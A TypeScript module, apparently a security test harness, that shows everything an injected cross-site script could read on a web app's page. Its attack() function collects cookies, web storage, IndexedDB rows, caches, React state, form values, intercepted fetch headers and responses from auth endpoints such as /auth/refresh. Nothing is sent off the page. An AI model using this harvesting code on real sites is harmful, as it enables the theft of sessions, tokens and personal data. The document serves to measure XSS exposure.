// What can a script on this page see? Everything that cross-site scripting could read, read for real.

import { deepText } from './deep-text.ts'
import { readFibers } from './fibers.ts'

/** One place that was searched, and all that was in it. */
export interface Finding {
  readonly sink: string
  readonly found: string
}

export type Loot = readonly Finding[]

const SINKS: readonly (readonly [sink: string, read: () => unknown])[] = [
  ['document.cookie', () => document.cookie],
  ['cookieStore.getAll()', readCookieStore],
  ['Cookies of a same-origin iframe', readFrameCookies],
  ['localStorage', () => ({ ...localStorage })],
  ['sessionStorage', () => ({ ...sessionStorage })],
  ['IndexedDB', readDatabases],
  ['Cache storage', readCaches],
  ['React state and props', readFibers],
  ['Window globals', readGlobals],
  ['Page text and attributes', () => [document.documentElement.outerHTML, readInputs()]],
  ['Address, history, referrer', () => [location.href, history.state, window.name, document.referrer]],
  ['Performance entries', () => performance.getEntries().map((entry) => entry.toJSON())],
  ['Headers the app sends', readAppRequests],
  ['GET /auth/me', () => readAnswer('GET', '/auth/me')],
  ['GET /auth/sessions', () => readAnswer('GET', '/auth/sessions')],
  ['GET /auth/csrf', () => readAnswer('GET', '/auth/csrf')],
  ['POST /auth/refresh', () => readAnswer('POST', '/auth/refresh')],
  ['XMLHttpRequest headers', readXhr],
  ['Service workers', readWorkers],
]

/** Runs with the rights of the page and no others, as an injected script would. */
export async function attack(): Promise<Loot> {
  const loot: Finding[] = []
  for (const [sink, read] of SINKS) loot.push({ sink, found: await attempt(read) })
  return loot
}

/** A place that refuses is a finding too. */
async function attempt(read: () => unknown): Promise<string> {
  try {
    return deepText(await read())
  } catch (error) {
    return `refused: ${error instanceof Error ? error.name : 'error'}`
  }
}

/** Answers what each cookie is, not only its name. */
async function readCookieStore(): Promise<unknown> {
  return (await cookieStore.getAll()).map(({ name, value }) => `${name}=${value}`)
}

function readFrameCookies(): string {
  const frame = document.createElement('iframe')
  frame.hidden = true
  document.body.append(frame)
  try {
    return frame.contentDocument?.cookie ?? ''
  } finally {
    frame.remove()
  }
}

async function readDatabases(): Promise<unknown> {
  const names = (await indexedDB.databases()).flatMap(({ name }) => name ?? [])
  return Promise.all(names.map(readDatabase))
}

async function readDatabase(name: string): Promise<unknown> {
  const database = await done(indexedDB.open(name))
  const stores = [...database.objectStoreNames]
  const read = (store: string): Promise<unknown> =>
    done(database.transaction(store).objectStore(store).getAll())
  const rows = await Promise.all(stores.map(read))
  database.close()
  return [name, stores, rows]
}

function done<T>(request: IDBRequest<T>): Promise<T> {
  return new Promise((resolve, reject) => {
    request.onsuccess = () => resolve(request.result)
    request.onerror = () => reject(request.error)
  })
}

async function readCaches(): Promise<unknown> {
  const found: unknown[] = []
  for (const name of await caches.keys()) {
    const cache = await caches.open(name)
    for (const request of await cache.keys()) {
      const response = await cache.match(request)
      found.push([request.url, [...request.headers], await response?.text()])
    }
  }
  return found
}

/** What the page's own code, and ours, has put on `window`, beside what browsers put there. */
function readGlobals(): unknown {
  const frame = document.createElement('iframe')
  frame.hidden = true
  document.body.append(frame)
  const known = new Set(Object.getOwnPropertyNames(frame.contentWindow ?? {}))
  frame.remove()
  const names = Object.getOwnPropertyNames(window).filter((name) => !known.has(name) && !/^\d+$/.test(name))
  return Object.fromEntries(names.map((name) => [name, Reflect.get(window, name)]))
}

function readInputs(): readonly string[] {
  return [...document.querySelectorAll('input, textarea')].map((input) => String(Reflect.get(input, 'value')))
}

/** Listens in on `fetch` while the app, told that its window has the focus again, reads its tasks. */
async function readAppRequests(): Promise<unknown> {
  const original = window.fetch
  const seen: unknown[] = []
  window.fetch = (input, init) => {
    const { method, url, headers } = new Request(input, init)
    seen.push(`${method} ${new URL(url).pathname}`, Object.fromEntries(headers))
    return original(input, init)
  }
  dispatchEvent(new Event('focus'))
  await new Promise((later) => setTimeout(later, 150))
  window.fetch = original
  return seen
}

async function readAnswer(method: string, path: string): Promise<unknown> {
  const response = await fetch(path, { method })
  const setCookie = response.headers.getSetCookie()
  return [response.status, await response.text(), { setCookie }, Object.fromEntries(response.headers)]
}

function readXhr(): Promise<unknown> {
  return new Promise((resolve) => {
    const request = new XMLHttpRequest()
    request.open('GET', '/auth/me')
    request.onloadend = () => resolve([request.status, request.getAllResponseHeaders(), request.responseText])
    request.send()
  })
}

async function readWorkers(): Promise<unknown> {
  const registrations = await navigator.serviceWorker.getRegistrations()
  return registrations.map(({ scope, active }) => [scope, active?.scriptURL])
}
